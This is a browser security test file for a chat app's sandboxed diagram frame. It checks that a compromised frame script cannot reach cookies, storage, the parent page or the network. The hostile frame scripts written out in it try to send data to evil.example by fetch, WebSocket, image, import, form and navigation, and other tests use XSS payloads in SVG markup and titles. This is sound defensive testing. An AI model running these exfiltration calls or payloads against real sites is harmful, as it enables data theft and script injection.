import { readFile } from "node:fs/promises";
import type { Page } from "playwright-core";
import { expect, test } from "vitest";
import { lastAnswer, openNewConversation } from "../../support/chatControls.ts";
import { createWorkspaceFixture } from "../../support/createWorkspaceFixture.ts";
import { recordExecutedScripts } from "../../support/hostilePage.ts";
import { ask, composer, expectEventually, expectVisible } from "../../support/screen.ts";

// Requests to any other server fail a test by themselves: see openPages.ts.
const fixture = createWorkspaceFixture();

const diagram = "```mermaid\ngraph LR\n  A --> B\n```";

/** Replaces the frame's script, keeping the frame's real page and policy; then opens an answer with a diagram. */
async function replaceFrameScript(script: string, expectedProblems = /(?!)/) {
  const { page } = await fixture.openSignedIn({ expectedProblems });
  const ran = await recordExecutedScripts(page);
  await page.route(/\/drawing\/assets\/index-[^/]*\.js$/, (route) =>
    route.fulfill({
      contentType: "text/javascript",
      headers: { "access-control-allow-origin": "*", "cross-origin-resource-policy": "cross-origin" },
      body: script,
    }),
  );
  await openNewConversation(page, fixture.url);
  fixture.workspace.models.script({ answer: `${diagram}\n\nThe end.` }, "scripted-large");
  await ask(page, "Draw");
  return { page, ran, answer: lastAnswer(page) };
}

/** Builds a frame script that answers every request with the result of `reply` for the request's id. */
const frameScript = (reply: string) => `
  addEventListener("message", ({ ports: [port] }) => {
    port.onmessage = async ({ data: { id } }) => { for (const answer of await (${reply})(id)) port.postMessage(answer); };
  });
  parent.postMessage("drawing-frame-ready", "*");
`;

const svg = (inside: string) =>
  `<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 100 50" width="100" height="50">${inside}</svg>`;
const drawnMessage = (inside: string, title = "") =>
  `{ id, svg: ${JSON.stringify(svg(inside))}, title: ${JSON.stringify(title)}, description: "", isPartial: false }`;

const frames = (page: Page) => page.locator("iframe");

test("a compromised frame reaches neither cookies, storage, the page, the network nor another address", async () => {
  const { page, ran, answer } = await replaceFrameScript(
    frameScript(`async (id) => {
      const got = [];
      const attempt = async (name, act) => {
        try { const value = await Promise.race([act(), new Promise((_, no) => setTimeout(no, 1500))]); if (value) got.push(name); } catch {}
      };
      await attempt("cookie", () => document.cookie !== undefined && "cookie");
      await attempt("localStorage", () => localStorage);
      await attempt("sessionStorage", () => sessionStorage);
      await attempt("indexedDB", () => new Promise((yes, no) => { const o = indexedDB.open("x"); o.onsuccess = yes; o.onerror = no; }).then(() => true));
      await attempt("caches", () => caches.open("x"));
      await attempt("parent", () => parent.document.body);
      await attempt("address", () => parent.location.href);
      await attempt("fetch", () => fetch(${JSON.stringify("/api/session")}).then(() => true));
      await attempt("fetch without cors", () => fetch("https://evil.example/", { mode: "no-cors" }).then(() => true));
      await attempt("beacon", () => fetch("https://evil.example/", { keepalive: true, mode: "no-cors" }).then(() => true));
      await attempt("socket", () => new Promise((yes, no) => { const s = new WebSocket("wss://evil.example"); s.onopen = yes; s.onerror = no; }).then(() => true));
      await attempt("picture", () => new Promise((yes, no) => { const i = new Image(); i.onload = yes; i.onerror = no; i.src = "https://evil.example/p.png"; }).then(() => true));
      await attempt("import", () => import("https://evil.example/x.js"));
      await attempt("eval", () => Function("return true")());
      await attempt("inline script", () => { const s = document.createElement("script"); s.textContent = "window.inline = 1"; document.body.append(s); return window.inline; });
      await attempt("frame", () => new Promise((yes, no) => { const f = document.createElement("iframe"); f.srcdoc = "<script>parent.framed = 1</scr" + "ipt>"; document.body.append(f); setTimeout(() => window.framed ? yes(1) : no(), 500); }));
      await attempt("window", () => window.open("https://evil.example"));
      await attempt("top", () => { top.location = "https://evil.example"; });
      await attempt("form", () => { const f = document.createElement("form"); f.action = "https://evil.example"; f.target = "_top"; document.body.append(f); f.submit(); });
      await attempt("service worker", () => navigator.serviceWorker.register("/drawing/assets/x.js"));
      return [{ id, svg: ${JSON.stringify(svg("<g/>"))}, title: "reached: " + got.join(), description: "", isPartial: false }];
    }`),
    // In the nested frame that it created.
    /^Executing inline script violates/,
  );
  await expectEventually(() => answer.getByRole("img", { name: "reached" }).getAttribute("alt")).toBe(
    "Diagram: reached: ",
  );
  // The frame may try to open a window or to create a nested frame, but neither has an effect.
  expect(ran.filter((what) => what !== "open" && what !== "frame about:srcdoc")).toEqual([]);
  expect(page.context().pages()).toHaveLength(1);
  expect(page.url()).toMatch(new RegExp(`^${fixture.url}/`));
  await composer(page).fill("The page is still there");
});

test("a frame that tries to navigate fails, and the page stays", async () => {
  const { page, answer } = await replaceFrameScript(
    `addEventListener("message", () => { location.href = "https://evil.example/?" + document.title; });
     parent.postMessage("drawing-frame-ready", "*");`,
    /^Framing 'https:\/\/evil\.example\/' violates/,
  );
  await expectVisible(answer, "The end.");
  await expectEventually(() => page.frames().some((frame) => frame.url().startsWith("chrome-error"))).toBe(true);
  expect(page.url()).toMatch(new RegExp(`^${fixture.url}/`));
});

test.each([
  ["a script in it", drawnMessage("<script>alert(1)</script><g onload='alert(1)'/>"), "diagram"],
  ["styles of elsewhere", drawnMessage("<style>@import '//evil.example/x.css';</style>"), "source"],
  [
    "a page in its place",
    `{ id, svg: "<html><body onload=alert(1)>", title: "", description: "", isPartial: false }`,
    "source",
  ],
  ["markup as its title", drawnMessage("<g/>", "<img src=//evil.example/x onerror=alert(1)>"), "diagram"],
  [
    "another's number before its own",
    `{ id: 999, svg: "<svg/>", title: "", description: "", isPartial: false }, ${drawnMessage("<g/>")}`,
    "diagram",
  ],
  [
    "other things before it",
    `null, "x", 1, [], { id }, { id, svg: 3 }, { id, problem: "x" }, ${drawnMessage("<g/>")}`,
    "diagram",
  ],
])("a picture with %s is harmless or not shown", async (_, reply, shown) => {
  const { page, ran, answer } = await replaceFrameScript(frameScript(`(id) => [${reply}]`));
  if (shown === "source") {
    await expectVisible(answer, "This diagram is not safe to show, so only its source is shown.");
    await answer.getByRole("group", { name: "Code, Mermaid" }).waitFor();
  } else {
    const image = answer.getByRole("img", { name: /^Diagram/ });
    await expectEventually(() =>
      image.evaluate((element) => element instanceof HTMLImageElement && element.complete),
    ).toBe(true);
    const address = (await image.getAttribute("src")) ?? "";
    expect(address).toMatch(new RegExp(`^blob:${fixture.url}/`));
    // A saved file may be opened as a page.
    await answer.getByRole("button", { name: "Download" }).click();
    const [download] = await Promise.all([
      page.waitForEvent("download"),
      page.getByRole("menuitem", { name: "Image (SVG)" }).click(),
    ]);
    const text = await readFile(await download.path(), "utf8");
    expect(text).toMatch(/^<svg /);
    expect(text).not.toMatch(/script|onload|import/);
  }
  expect(ran).toEqual([]);
});

test("messages of other windows are ignored, and a frame that never answers loses only its own drawing", async () => {
  const { page } = await fixture.openSignedIn();
  await openNewConversation(page, fixture.url);
  await page.evaluate(() => {
    const given = window.postMessage.bind(window);
    // Imitate the frame's ready message every millisecond, so that it arrives before the real one.
    setInterval(() => given("drawing-frame-ready", "*"), 1);
    const heard: unknown[] = [];
    Object.assign(window, { heard });
    addEventListener("message", (event) => event.ports.length > 0 && heard.push(event.data));
  });
  fixture.workspace.models.script({ answer: diagram }, "scripted-large");
  await ask(page, "Draw");
  await lastAnswer(page)
    .getByRole("img", { name: /^Diagram/ })
    .waitFor();
  expect(await page.evaluate(() => Reflect.get(window, "heard"))).toEqual([]);
  expect(await frames(page).evaluateAll((all) => all.map((frame) => frame.getAttribute("sandbox")))).toEqual([
    "allow-scripts",
  ]);
});

test("a frame that repeatedly reports that it has started gets no extra time", { timeout: 60_000 }, async () => {
  const { page, answer } = await replaceFrameScript(
    frameScript(
      `(id) => { setInterval(() => port.postMessage({ id, isStarted: true }), 500); return [{ id, isStarted: true }]; }`,
    ),
  );
  await answer
    .getByText("This diagram takes too long to draw, so only its source is shown.")
    .waitFor({ timeout: 30_000 });
  expect(await frames(page).count()).toBe(0);
});

test("only our own page may embed the frame's page, and its files are public", async () => {
  const page = await fetch(`${fixture.url}/drawing.html`);
  const policy = page.headers.get("content-security-policy") ?? "";
  expect(policy).toContain("sandbox allow-scripts");
  expect(policy).not.toMatch(/unsafe-eval|script-src[^;]*unsafe|https?:|\*/);
  for (const directive of ["default-src 'none'", "frame-ancestors 'self'", "form-action 'none'", "base-uri 'none'"]) {
    expect(policy).toContain(directive);
  }
  expect(page.headers.get("x-frame-options")).toBe("SAMEORIGIN");
  const home = (await fetch(fixture.url)).headers;
  expect(home.get("content-security-policy")).toMatch(/frame-src 'self';.*frame-ancestors 'none'/);
  expect(home.get("access-control-allow-origin")).toBeNull();
  const [address = ""] = /\/drawing\/assets\/[^"]+\.js/.exec(await page.text()) ?? [];
  const script = await fetch(fixture.url + address);
  expect(script.headers.get("access-control-allow-origin")).toBe("*");
  const own = /\/assets\/[^"]+\.js/.exec(await (await fetch(fixture.url)).text())?.[0] ?? "";
  expect((await fetch(fixture.url + own)).headers.get("access-control-allow-origin")).toBeNull();
});
